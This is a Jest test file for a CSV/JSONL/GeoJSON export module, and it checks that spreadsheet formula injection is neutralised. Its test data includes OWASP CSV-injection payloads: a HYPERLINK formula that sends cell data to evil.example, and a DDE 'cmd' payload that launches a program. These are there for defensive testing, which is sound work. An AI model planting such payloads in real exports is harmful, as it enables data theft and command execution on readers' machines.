import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { everyPage } from './export-file.js';
import { rowPerItem, type ExportKind } from './export-kind.js';
import { csvLines, exportText } from './export-text.js';

/** OWASP, "CSV Injection": what a spreadsheet takes for the start of a formula, and the full-width variants of it. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  // Texts that look like numbers are texts all the same.
  '-5',
  '+31 10 123 4567',
];

const HARMLESS = [
  'Polder Data Centre B.V.',
  'a,b',
  'two\r\nlines',
  'two\nlines',
  'a\rreturn',
  'says "hi"',
  ' leading space',
  'Größe, Ω, 磁石',
  "'quoted'",
  'a=b',
  '',
];

interface Thing {
  readonly name: string;
  readonly massKg: number | null;
  readonly listed: boolean;
}

const THINGS: ExportKind<Thing, Thing> = rowPerItem(
  'things',
  {
    name: ({ name }) => name,
    mass_kg: ({ massKg }) => massKg,
    listed: ({ listed }) => listed,
  },
  () => ({ latitude: 51.5, longitude: -0.12 }),
);

const TWO: readonly Thing[] = [
  { name: '=A1', massKg: -5.5, listed: true },
  { name: 'plain', massKg: null, listed: false },
];

async function textOf(format: 'csv' | 'jsonl' | 'geojson', pages: readonly (readonly Thing[])[]) {
  async function* given(): AsyncGenerator<readonly Thing[]> {
    yield* pages;
  }
  let text = '';
  for await (const part of exportText(THINGS, format, given())) text += part;
  return text;
}

describe('an exported table', () => {
  it.each(FORMULAS)('makes no formula of %j', (formula) => {
    const [[cell = '', untouched = ''] = []] = parse(csvLines([[formula, 'next']]));
    expect(cell).toBe(`'${formula}`);
    expect(untouched).toBe('next');
  });

  it.each(HARMLESS)('gives back %j as it was', (text) => {
    expect(parse(csvLines([[text, 'end']]))).toEqual([[text, 'end']]);
  });

  it.each([-5, -0.001, 0, 840.5, 1_000_000])('leaves the number %d a number', (number) => {
    expect(csvLines([[number, null]])).toBe(`${number},\r\n`);
  });

  it('has a header, a line per row, empty cells for what is not known, and is read again', async () => {
    const text = await textOf('csv', [TWO.slice(0, 1), TWO.slice(1)]);
    expect(text).toBe("name,mass_kg,listed\r\n'=A1,-5.5,true\r\nplain,,false\r\n");
    expect(parse(text, { columns: true })).toEqual([
      { name: "'=A1", mass_kg: '-5.5', listed: 'true' },
      { name: 'plain', mass_kg: '', listed: 'false' },
    ]);
  });

  it('of nothing has a header', async () => {
    expect(await textOf('csv', [[]])).toBe('name,mass_kg,listed\r\n');
    expect(await textOf('jsonl', [[]])).toBe('');
  });

  it('has a JSON value per line', async () => {
    const lines = (await textOf('jsonl', [TWO])).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(TWO);
  });

  it('is a FeatureCollection of RFC 7946, longitude first', async () => {
    const collection = JSON.parse(await textOf('geojson', [TWO.slice(0, 1), TWO.slice(1)])) as object;
    expect(collection).toEqual({
      type: 'FeatureCollection',
      features: TWO.map(({ name, massKg, listed }) => ({
        type: 'Feature',
        geometry: { type: 'Point', coordinates: [-0.12, 51.5] },
        properties: { name, mass_kg: massKg, listed },
      })),
    });
    expect(JSON.parse(await textOf('geojson', [[]]))).toEqual({ type: 'FeatureCollection', features: [] });
  });
});

describe('the pages of an export', () => {
  it('are read one after the other, and no further than they are taken', async () => {
    const asked: (string | undefined)[] = [];
    const pages = everyPage(({ cursor }) => {
      asked.push(cursor);
      return Promise.resolve({
        items: [asked.length],
        nextCursor: asked.length < 4 ? `c${asked.length}` : null,
      });
    });
    expect((await pages.next()).value).toEqual([1]);
    expect((await pages.next()).value).toEqual([2]);
    await pages.return(undefined);
    expect(asked).toEqual([undefined, 'c1']);
  });

  it('end with the last one', async () => {
    const taken: number[] = [];
    for await (const page of everyPage(({ cursor }) =>
      Promise.resolve({
        items: [Number(cursor ?? 0)],
        nextCursor: cursor === '2' ? null : String(Number(cursor ?? 0) + 1),
      }),
    ))
      taken.push(...page);
    expect(taken).toEqual([0, 1, 2]);
  });
});
